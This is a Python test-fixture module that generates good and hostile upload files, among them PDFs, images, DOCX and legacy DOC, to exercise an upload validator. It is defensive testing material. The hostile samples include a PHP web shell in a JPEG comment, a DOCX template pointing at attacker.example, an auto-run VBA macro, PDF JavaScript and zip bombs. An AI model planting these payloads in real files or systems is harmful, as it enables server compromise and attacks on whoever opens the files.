"""Test files for the upload checks, good and bad, built by code at test time.

Nothing here is a committed binary fixture: PDFs are written by hand with a real xref,
images come from Pillow, DOCX from zipfile, and legacy DOC files from a small Compound
File Binary writer below (olefile can only read), including a real VBA project that
oletools parses down to its source code.
"""

import functools
import io
import itertools
import random
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import BinaryIO

from PIL import Image, ImageCms, PngImagePlugin

MIB = 1024 * 1024
TEN_MB = 10 * MIB


# --- PDF -------------------------------------------------------------------------------


def pdf_stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def pdf_bytes(
    *,
    catalog_extra: bytes = b"",
    extra_objects: Sequence[bytes] = (),
    page_text: bytes = b"Certificate of completion",
    trailer_extra: bytes = b"",
    after_header: bytes = b"",
    pages: int = 1,
) -> bytes:
    """A small, valid PDF: catalog 1, pages 2, font 3, then each page and its contents.

    Extra objects are numbered from 4 + 2 * pages on, in order.
    """
    first_page = 4
    extra_number = first_page + 2 * pages
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i in range(pages):
        content = b"BT /F1 24 Tf 72 720 Td (%s, page %d) Tj ET" % (page_text, i + 1)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>" % (first_page + 2 * i + 1)
        )
        objects.append(pdf_stream(content))
    objects.extend(extra_objects)
    assert extra_number == 4 + 2 * pages
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_with_object_stream(compressed_objects: Sequence[bytes], *, encrypt: bool = False) -> bytes:
    """A PDF 1.5 whose catalog and other objects live inside a Flate object stream.

    Objects 1.. are the compressed ones (object 1 must be the catalog); the page tree is
    object 2 and must be among them. A cross-reference stream indexes everything. With
    encrypt=True the object stream holds bytes that do not inflate, as an encrypted file would.
    """
    count = len(compressed_objects)
    objstm_number = count + 1
    page_number = count + 2
    content_number = count + 3
    xref_number = count + 4
    header_parts, body_parts, offset = [], [], 0
    for number, body in enumerate(compressed_objects, start=1):
        header_parts.append(b"%d %d" % (number, offset))
        body_parts.append(body)
        offset += len(body) + 1
    header = b" ".join(header_parts) + b"\n"
    payload = header + b"\n".join(body_parts) + b"\n"
    packed = random.Random(7).randbytes(len(payload)) if encrypt else zlib.compress(payload)
    objstm = pdf_stream(
        packed,
        b" /Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, len(header)),
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % content_number
    )
    content = pdf_stream(b"BT /F1 24 Tf 72 720 Td (Compressed certificate) Tj ET")
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in (
        (objstm_number, objstm),
        (page_number, page),
        (content_number, content),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, objstm_number, index) for index in range(count)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in range(objstm_number, xref_number + 1)]
    encrypt_entry = b" /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 >>" if encrypt else b""
    xref = pdf_stream(
        b"".join(rows),
        b" /Type /XRef /W [1 4 2] /Size %d /Root 1 0 R%s" % (xref_number + 1, encrypt_entry),
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, xref)
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def good_objstm_pdf() -> bytes:
    return pdf_with_object_stream(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
            b"<< /Title (Certificate) /Producer (corpus) >>",
        ]
    )


def hidden_javascript_pdf() -> bytes:
    """JavaScript that only shows once the object stream is inflated."""
    return pdf_with_object_stream(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
            b"<< /Type /Action /S /JavaScript /JS (app.alert('hi')) >>",
        ]
    )


def encrypted_objstm_pdf() -> bytes:
    return pdf_with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>"],
        encrypt=True,
    )


def big_pdf(target_size: int = 8 * MIB) -> bytes:
    """A valid PDF of about target_size bytes: one large ASCIIHex image (no '/' inside)."""
    filler = random.Random(1).randbytes(target_size // 2).hex().upper().encode()
    image = pdf_stream(
        filler + b">",
        b" /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Filter /ASCIIHexDecode",
    )
    return pdf_bytes(extra_objects=[image])


# --- Images ----------------------------------------------------------------------------


def _photo(size: tuple[int, int]) -> Image.Image:
    """A deterministic picture with gradients and detail, so JPEG has something to encode."""
    gradient = Image.linear_gradient("L").resize(size)
    noise = Image.effect_noise(size, 40)
    return Image.merge("RGB", (gradient, noise, gradient.transpose(Image.Transpose.ROTATE_180)))


def jpeg_bytes(
    size: tuple[int, int] = (320, 240),
    *,
    exif: Mapping[int, object] | None = None,
    comment: bytes | None = None,
    icc_profile: bytes | None = None,
    quality: int = 85,
) -> bytes:
    options: dict[str, object] = {"quality": quality}
    if exif is not None:
        tags = Image.Exif()
        for tag, value in exif.items():
            tags[tag] = value
        options["exif"] = tags.tobytes()
    if comment is not None:
        options["comment"] = comment
    if icc_profile is not None:
        options["icc_profile"] = icc_profile
    buffer = io.BytesIO()
    _photo(size).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def png_bytes(
    size: tuple[int, int] = (200, 150), *, mode: str = "RGB", text: Mapping[str, str] = {}
) -> bytes:
    image = _photo(size).convert(mode)
    info = PngImagePlugin.PngInfo()
    for key, value in text.items():
        info.add_text(key, value)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def gif_bytes() -> bytes:
    buffer = io.BytesIO()
    _photo((40, 30)).convert("P").save(buffer, "GIF")
    return buffer.getvalue()


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


@functools.cache
def huge_blank_png(width: int, height: int) -> bytes:
    """A complete 1-bit PNG of width x height white pixels that compresses to a few KB."""
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


# --- DOCX ------------------------------------------------------------------------------

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_PROJECT_TYPE = "application/vnd.ms-office.vbaProject"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _content_types(overrides: Mapping[str, str]) -> bytes:
    parts = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides.items()
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    ).encode()


def _relationships(relationships: Sequence[tuple[str, str, str]]) -> bytes:
    """(type, target, target mode or '') triples as a .rels part."""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{REL_NS}">{rows}</Relationships>'
    ).encode()


def _document_xml(text: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def docx_bytes(
    *,
    content_types_first: bool = True,
    main_content_type: str = WORD_MAIN,
    extra_overrides: Mapping[str, str] = {},
    document_relationships: Sequence[tuple[str, str, str]] = (),
    extra_parts: Mapping[str, bytes] = {},
    text: str = "Certificate of completion",
) -> bytes:
    parts = {
        "[Content_Types].xml": _content_types(
            {"/word/document.xml": main_content_type, **extra_overrides}
        ),
        "_rels/.rels": _relationships(
            [(f"{OFFICE_DOC_REL}/officeDocument", "word/document.xml", "")]
        ),
        "word/document.xml": _document_xml(text),
        "word/_rels/document.xml.rels": _relationships(document_relationships),
        **extra_parts,
    }
    order = list(parts)
    if not content_types_first:
        order.append(order.pop(0))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in order:
            archive.writestr(name, parts[name])
    return buffer.getvalue()


def docm_renamed_docx() -> bytes:
    """What Word writes for a macro-enabled document, saved under a .docx name."""
    return docx_bytes(
        main_content_type=WORD_MACRO_MAIN,
        extra_overrides={"/word/vbaProject.bin": VBA_PROJECT_TYPE},
        document_relationships=[
            (
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                "",
            )
        ],
        extra_parts={"word/vbaProject.bin": ole_file(vba_project_streams(""))},
    )


def docx_with_hidden_vba() -> bytes:
    """A VBA project under an innocent name, with no macro content type or relationship."""
    return docx_bytes(extra_parts={"word/media/image1.bin": ole_file(vba_project_streams(""))})


def docx_with_activex() -> bytes:
    return docx_bytes(
        extra_overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        document_relationships=[(f"{OFFICE_DOC_REL}/control", "activeX/activeX1.xml", "")],
        extra_parts={"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"},
    )


def docx_with_remote_template() -> bytes:
    """The template-injection trick: settings.xml points at a template on the internet."""
    return docx_bytes(
        extra_parts={
            "word/settings.xml": b"<w:settings xmlns:w='w'><w:attachedTemplate r:id='rId1'/>"
            b"</w:settings>",
            "word/_rels/settings.xml.rels": _relationships(
                [
                    (
                        f"{OFFICE_DOC_REL}/attachedTemplate",
                        "https://attacker.example/t.dotm",
                        "External",
                    )
                ]
            ),
        }
    )


def docx_with_hyperlink() -> bytes:
    return docx_bytes(
        document_relationships=[
            (f"{OFFICE_DOC_REL}/hyperlink", "https://learn.microsoft.com/", "External")
        ]
    )


def _zip_with_streamed_entry(name: str, size: int, prefix: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in prefix.items():
            archive.writestr(part, data)
        with archive.open(name, "w", force_zip64=True) as entry:
            block = b"\0" * MIB
            for _ in range(size // MIB):
                entry.write(block)
            entry.write(b"\0" * (size % MIB))
    return buffer.getvalue()


def _docx_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@functools.cache
def docx_zip_bomb(uncompressed: int = 101 * MIB) -> bytes:
    return _zip_with_streamed_entry("word/media/blank.bin", uncompressed, _docx_parts())


def docx_with_lying_sizes() -> bytes:
    """A central directory that claims a 1 KiB part which really inflates to 50 MB."""
    data = bytearray(_zip_with_streamed_entry("word/media/blank.bin", 50 * MIB, _docx_parts()))
    central = data.rfind(b"PK\x01\x02")
    assert data[central + 46 : central + 66] == b"word/media/blank.bin"
    data[central + 24 : central + 28] = struct.pack("<I", 1024)
    return bytes(data)


def docx_with_many_entries(count: int = 1001) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in _docx_parts().items():
            archive.writestr(name, data)
        for index in range(count):
            archive.writestr(f"word/media/p{index}.xml", b"<p/>")
    return buffer.getvalue()


def docx_with_bad_crc() -> bytes:
    """One flipped byte inside the last part's compressed data."""
    data = bytearray(docx_bytes())
    data[data.rfind(b"PK\x01\x02") - 20] ^= 0xFF
    return bytes(data)


def truncated_jpeg() -> bytes:
    whole = jpeg_bytes((640, 480))
    return whole[: len(whole) * 6 // 10]


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "Just an archive.\n" * 20)
        archive.writestr("photo.txt", "Not a Word document.\n" * 20)
    return buffer.getvalue()


# --- OLE compound files (legacy DOC) ---------------------------------------------------

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR, MINI_SECTOR, MINI_CUTOFF = 512, 64, 4096
WORD_DOCUMENT_CLSID = bytes.fromhex("0609020000000000c000000000000046")


@dataclass
class _OleNode:
    name: str
    is_storage: bool
    data: bytes = b""
    children: list["_OleNode"] = field(default_factory=list)
    sid: int = 0
    start: int = ENDOFCHAIN


def _cfb_order(node: _OleNode) -> tuple[int, str]:
    # [MS-CFB] 2.6.4: siblings sort by name length first, then by upper-cased name.
    return (len(node.name), node.name.upper())


def ole_file(streams: Mapping[str, bytes], *, root_clsid: bytes = bytes(16)) -> bytes:
    """A version 3 Compound File holding streams given by 'Storage/Sub/Stream' paths.

    Layout: big streams, the mini stream, the mini FAT, the directory, then the FAT, so the
    directory sits past the first few KB as in files Word writes.
    """
    root = _OleNode("Root Entry", True)
    for path, data in streams.items():
        parent = root
        *storages, leaf = path.split("/")
        for name in storages:
            found = next((child for child in parent.children if child.name == name), None)
            if found is None:
                found = _OleNode(name, True)
                parent.children.append(found)
            parent = found
        parent.children.append(_OleNode(leaf, False, data=data))

    entries: list[_OleNode] = []

    def number(node: _OleNode) -> None:
        node.sid = len(entries)
        entries.append(node)
        for child in sorted(node.children, key=_cfb_order):
            number(child)

    number(root)

    # Each storage's children form a sorted right-sibling chain: a valid, if lopsided, tree.
    right_of: dict[int, int] = {}
    for node in entries:
        children = sorted(node.children, key=_cfb_order)
        for left, right in itertools.pairwise(children):
            right_of[left.sid] = right.sid

    # Small streams go to the mini stream, in 64-byte mini sectors.
    mini_stream, mini_fat = bytearray(), []
    for node in entries:
        if not node.is_storage and 0 < len(node.data) < MINI_CUTOFF:
            count = -(-len(node.data) // MINI_SECTOR)
            node.start = len(mini_fat)
            mini_fat += [len(mini_fat) + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
            mini_stream += node.data.ljust(count * MINI_SECTOR, b"\0")

    sectors: list[bytes] = []
    fat: list[int] = []

    def allocate(data: bytes) -> int:
        if not data:
            return ENDOFCHAIN
        first = len(sectors)
        count = -(-len(data) // SECTOR)
        for i in range(count):
            sectors.append(data[i * SECTOR : (i + 1) * SECTOR].ljust(SECTOR, b"\0"))
            fat.append(first + i + 1 if i < count - 1 else ENDOFCHAIN)
        return first

    for node in entries:
        if not node.is_storage and len(node.data) >= MINI_CUTOFF:
            node.start = allocate(node.data)
    root.start = allocate(bytes(mini_stream))
    mini_fat_start = allocate(b"".join(struct.pack("<I", value) for value in mini_fat))

    directory = bytearray()
    for node in entries:
        name = node.name.encode("utf-16-le") + b"\0\0"
        children = sorted(node.children, key=_cfb_order)
        kind = 5 if node is root else (1 if node.is_storage else 2)
        size = len(mini_stream) if node is root else len(node.data)
        directory += name.ljust(64, b"\0") + struct.pack("<HBB", len(name), kind, 1)
        directory += struct.pack(
            "<III",
            NOSTREAM,
            right_of.get(node.sid, NOSTREAM),
            children[0].sid if children else NOSTREAM,
        )
        directory += (root_clsid if node is root else bytes(16)) + bytes(4 + 16)
        directory += struct.pack("<IQ", node.start, size)
    unused_entry = bytes(64) + bytes(4) + b"\xff" * 12 + bytes(48)
    while len(directory) % SECTOR:
        directory += unused_entry
    dir_start = allocate(bytes(directory))

    fat_count = 1
    while fat_count * (SECTOR // 4) < len(sectors) + fat_count:
        fat_count += 1
    assert fat_count <= 109, "this writer keeps the whole FAT in the header's DIFAT"
    fat_start = len(sectors)
    fat += [FATSECT] * fat_count
    fat += [FREESECT] * (fat_count * (SECTOR // 4) - len(fat))
    fat_bytes = b"".join(struct.pack("<I", value) for value in fat)
    sectors += [fat_bytes[i * SECTOR : (i + 1) * SECTOR] for i in range(fat_count)]

    difat = [fat_start + i for i in range(fat_count)] + [FREESECT] * (109 - fat_count)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIII", 0, fat_count, dir_start, 0)
        + struct.pack("<I", MINI_CUTOFF)
        + struct.pack("<II", mini_fat_start, -(-len(mini_fat) * 4 // SECTOR))
        + struct.pack("<II", ENDOFCHAIN, 0)
        + b"".join(struct.pack("<I", value) for value in difat)
    )
    assert len(header) == SECTOR
    return header + b"".join(sectors)


def _ovba_compress(data: bytes) -> bytes:
    """[MS-OVBA] 2.4.1 compression using literal tokens only (valid, just not smaller)."""
    assert len(data) <= 3640, "one literal-only chunk holds at most 3640 bytes"
    body = bytearray()
    for i in range(0, len(data), 8):
        body += b"\0" + data[i : i + 8]
    header = 0xB000 | (len(body) + 2 - 3)
    return b"\x01" + struct.pack("<H", header) + bytes(body)


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


VBA_SOURCE = (
    b'Attribute VB_Name = "ThisDocument"\r\n'
    b'Attribute VB_Base = "1Normal.ThisDocument"\r\n'
    b"Attribute VB_GlobalNameSpace = False\r\n"
    b"Attribute VB_Creatable = False\r\n"
    b"Attribute VB_PredeclaredId = True\r\n"
    b"Attribute VB_Exposed = True\r\n"
    b"Attribute VB_TemplateDerived = True\r\n"
    b"Attribute VB_Customizable = True\r\n"
    b"Sub AutoOpen()\r\n"
    b'    MsgBox "Corpus macro: this document runs code when opened"\r\n'
    b"End Sub\r\n"
)


def vba_project_streams(root: str, source: bytes = VBA_SOURCE) -> dict[str, bytes]:
    """A one-module VBA project ([MS-OVBA] 2.3) under root ('' or 'Macros')."""
    module = "ThisDocument"
    prefix = f"{root}/" if root else ""
    utf16 = module.encode("utf-16-le")
    dir_stream = b"".join(
        [
            _record(0x0001, struct.pack("<I", 1)),  # SYSKIND: 32-bit Windows
            _record(0x0002, struct.pack("<I", 0x409)),
            _record(0x0014, struct.pack("<I", 0x409)),
            _record(0x0003, struct.pack("<H", 1252)),
            _record(0x0004, b"Project"),
            _record(0x0005, b"") + _record(0x0040, b""),
            _record(0x0006, b"") + _record(0x003D, b""),
            _record(0x0007, struct.pack("<I", 0)),
            _record(0x0008, struct.pack("<I", 0)),
            struct.pack("<HIIH", 0x0009, 4, 1, 0),
            _record(0x000C, b"") + _record(0x003C, b""),
            _record(0x000F, struct.pack("<H", 1)),
            _record(0x0013, struct.pack("<H", 0xFFFF)),
            _record(0x0019, module.encode()),
            _record(0x0047, utf16),
            _record(0x001A, module.encode()) + _record(0x0032, utf16),
            _record(0x001C, b"") + _record(0x0048, b""),
            _record(0x0031, struct.pack("<I", 0)),
            _record(0x001E, struct.pack("<I", 0)),
            _record(0x002C, struct.pack("<H", 0xFFFF)),
            struct.pack("<HI", 0x0022, 0),  # document module
            struct.pack("<HI", 0x002B, 0),
            struct.pack("<HI", 0x0010, 0),
        ]
    )
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
        b"Document=ThisDocument/&H00000000\r\n"
        b'Name="Project"\r\n'
        b'HelpContextID="0"\r\n'
        b'VersionCompatible32="393222000"\r\n'
        b"\r\n[Host Extender Info]\r\n"
        b"&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
    )
    return {
        f"{prefix}PROJECT": project,
        f"{prefix}PROJECTwm": module.encode() + b"\0" + utf16 + b"\0\0\0\0",
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{prefix}VBA/dir": _ovba_compress(dir_stream),
        f"{prefix}VBA/{module}": _ovba_compress(source),
    }


def _word_document_stream() -> bytes:
    # FibBase ([MS-DOC] 2.5.2): wIdent 0xA5EC, nFib 0x00C1 (Word 97), then zeros.
    return struct.pack("<HH", 0xA5EC, 0x00C1).ljust(8192, b"\0")


def doc_bytes(*, macro: bool = False) -> bytes:
    streams = {"WordDocument": _word_document_stream(), "1Table": bytes(4096)}
    if macro:
        streams.update(vba_project_streams("Macros"))
    return ole_file(streams, root_clsid=WORD_DOCUMENT_CLSID)


def _packaged_program() -> bytes:
    """An Ole10Native payload: a whole program behind an icon, as Word's Package object holds."""
    return struct.pack("<I", 4096) + b"\x02\x00setup.exe\x00" + pe_bytes()[:4000]


def packaged_program_ole() -> bytes:
    return ole_file({"\x01Ole10Native": _packaged_program(), "\x01CompObj": bytes(64)})


def doc_with_packaged_program() -> bytes:
    streams = {"WordDocument": _word_document_stream(), "1Table": bytes(4096)}
    streams["ObjectPool/_1712345678/\x01Ole10Native"] = _packaged_program()
    return ole_file(streams, root_clsid=WORD_DOCUMENT_CLSID)


def docx_with_packaged_program() -> bytes:
    return docx_bytes(extra_parts={"word/embeddings/oleObject1.bin": packaged_program_ole()})


def excel_ole_bytes() -> bytes:
    return ole_file({"Workbook": bytes(8192)})


def damaged_doc_bytes() -> bytes:
    """A DOC whose FAT was cut off: the OLE signature is right, the structure is not."""
    data = bytearray(doc_bytes())
    # Point the first FAT sector far past the end of the file.
    data[0x4C:0x50] = struct.pack("<I", 0x00FFFFF0)
    return bytes(data)


# --- Other things people upload --------------------------------------------------------

HTML_PAGE = b"<!DOCTYPE html><html><head><script>alert(document.cookie)</script></head></html>\n"
SVG_IMAGE = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>\n"
)


def elf_bytes() -> bytes:
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1)
    return header.ljust(4096, b"\0")


def pe_bytes() -> bytes:
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    return (dos.ljust(0x80, b"\0") + b"PE\0\0" + struct.pack("<HH", 0x14C, 1)).ljust(4096, b"\0")


def random_bytes(size: int = 4096, seed: int = 3) -> bytes:
    return random.Random(seed).randbytes(size)


# --- The catalogue ---------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """One upload: the name the browser sent and a way to open its content."""

    label: str
    name: str
    build: Callable[[], bytes]
    code: str | None = None  # the FileRefused code expected, None for a good file
    kind: str | None = None  # the kind expected for a good file

    def open(self) -> BinaryIO:
        return io.BytesIO(self.build())


@dataclass(frozen=True)
class StreamedSample(Sample):
    """A sample written to a temporary file on disk, never held in memory whole."""

    writer: Callable[[BinaryIO], None] = lambda file: None

    def open(self) -> BinaryIO:
        file = tempfile.TemporaryFile()  # noqa: SIM115 -- the caller closes it
        self.writer(file)
        file.seek(0)
        return file


def write_oversized_pdf(file: BinaryIO, size: int = TEN_MB + 1) -> None:
    """A well-formed-looking PDF of exactly size bytes: padding comments, then %%EOF."""
    head = pdf_bytes()
    tail = b"\n%%EOF\n"
    file.write(head[: -len(b"%%EOF\n")])
    remaining = size - (len(head) - len(b"%%EOF\n")) - len(tail)
    line = b"%" + b"x" * 1022 + b"\n"
    while remaining >= len(line):
        file.write(line)
        remaining -= len(line)
    file.write(b"%" * remaining)
    file.write(tail)


def _written(writer: Callable[[BinaryIO], None]) -> bytes:
    buffer = io.BytesIO()
    writer(buffer)
    return buffer.getvalue()


def _renamed(label: str, name: str, code: str, build: Callable[[], bytes]) -> Sample:
    return Sample(label, name, build, code=code)


def good_samples() -> list[Sample]:
    return [
        Sample("pdf", "Certificate.pdf", pdf_bytes, kind="pdf"),
        Sample("pdf_three_pages", "transcript.PDF", lambda: pdf_bytes(pages=3), kind="pdf"),
        Sample("pdf_object_stream", "compressed.pdf", good_objstm_pdf, kind="pdf"),
        Sample(
            "pdf_aapl_keywords",
            "printed-on-a-mac.pdf",
            lambda: pdf_bytes(trailer_extra=b" /Info << /AAPL:Keywords [(cert)] >>"),
            kind="pdf",
        ),
        Sample("jpeg", "photo.jpg", jpeg_bytes, kind="jpeg"),
        Sample("jpeg_long_extension", "scan.JPEG", jpeg_bytes, kind="jpeg"),
        Sample(
            "jpeg_exif_comment",
            "phone photo.jpeg",
            lambda: jpeg_bytes(exif={0x010F: "Phone"}, comment=b"taken at home"),
            kind="jpeg",
        ),
        Sample("png", "screenshot.png", png_bytes, kind="png"),
        Sample("png_palette", "badge.png", lambda: png_bytes(mode="P"), kind="png"),
        Sample("png_alpha", "logo.png", lambda: png_bytes(mode="RGBA"), kind="png"),
        Sample("docx", "Transcript.docx", docx_bytes, kind="docx"),
        Sample(
            "docx_zip_order",
            "exported.docx",
            lambda: docx_bytes(content_types_first=False),
            kind="docx",
        ),
        Sample("docx_hyperlink", "with-link.docx", docx_with_hyperlink, kind="docx"),
        Sample("doc", "Old certificate.doc", doc_bytes, kind="doc"),
    ]


def _good_pdf_named(label: str, name: str) -> Sample:
    return Sample(label, name, pdf_bytes, code="bad_name")


def bad_samples() -> list[Sample]:
    def pdf_with(catalog_extra: bytes = b"", objects: Sequence[bytes] = ()) -> Callable[[], bytes]:
        return lambda: pdf_bytes(catalog_extra=catalog_extra, extra_objects=objects)

    action_js = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    return [
        StreamedSample(
            "over_10_mb",
            "big.pdf",
            lambda: _written(write_oversized_pdf),
            code="too_large",
            writer=write_oversized_pdf,
        ),
        Sample("empty", "empty.pdf", lambda: b"", code="empty"),
        Sample("random_bytes", "notes.pdf", random_bytes, code="type_not_allowed"),
        Sample("elf_executable", "invoice.pdf", elf_bytes, code="type_not_allowed"),
        Sample("pe_executable", "invoice.pdf", pe_bytes, code="type_not_allowed"),
        Sample("html_as_jpeg", "photo.jpg", lambda: HTML_PAGE, code="type_not_allowed"),
        Sample("svg_as_png", "badge.png", lambda: SVG_IMAGE, code="type_not_allowed"),
        Sample("gif", "animation.gif", gif_bytes, code="type_not_allowed"),
        Sample("zip_as_docx", "archive.docx", plain_zip, code="type_not_allowed"),
        Sample("excel_as_doc", "sheet.doc", excel_ole_bytes, code="type_not_allowed"),
        Sample(
            "png_html_polyglot",
            "badge.png",
            lambda: png_bytes(text={"Comment": HTML_PAGE.decode()}),
            code="polyglot",
        ),
        Sample(
            "png_html_appended",
            "badge.png",
            lambda: png_bytes() + HTML_PAGE,
            code="polyglot",
        ),
        Sample(
            "jpeg_php_comment",
            "photo.jpg",
            lambda: jpeg_bytes(comment=b"<?php system($_GET['c']); ?>"),
            code="polyglot",
        ),
        Sample(
            "pdf_then_html",
            "letter.pdf",
            lambda: pdf_bytes(after_header=HTML_PAGE),
            code="polyglot",
        ),
        Sample(
            "truncated_jpeg",
            "photo.jpg",
            truncated_jpeg,
            code="damaged",
        ),
        Sample(
            "png_decompression_bomb",
            "huge.png",
            lambda: huge_blank_png(20000, 20000),
            code="image_too_large",
        ),
        Sample(
            "png_over_pixel_limit",
            "poster.png",
            lambda: huge_blank_png(8000, 6000),
            code="image_too_large",
        ),
        Sample("docm_as_docx", "cv.docx", docm_renamed_docx, code="macros"),
        Sample("docx_hidden_vba", "cv.docx", docx_with_hidden_vba, code="macros"),
        Sample("docx_activex", "form.docx", docx_with_activex, code="active_content"),
        Sample("docx_remote_template", "cv.docx", docx_with_remote_template, code="active_content"),
        Sample("docx_zip_bomb", "cv.docx", docx_zip_bomb, code="zip_bomb"),
        Sample("docx_too_many_entries", "cv.docx", docx_with_many_entries, code="zip_bomb"),
        Sample("docx_lying_sizes", "cv.docx", docx_with_lying_sizes, code="damaged"),
        Sample("docx_bad_crc", "cv.docx", docx_with_bad_crc, code="damaged"),
        Sample("doc_with_macro", "cv.doc", lambda: doc_bytes(macro=True), code="macros"),
        Sample("doc_damaged", "cv.doc", damaged_doc_bytes, code="damaged"),
        Sample("doc_packaged_program", "cv.doc", doc_with_packaged_program, code="active_content"),
        Sample(
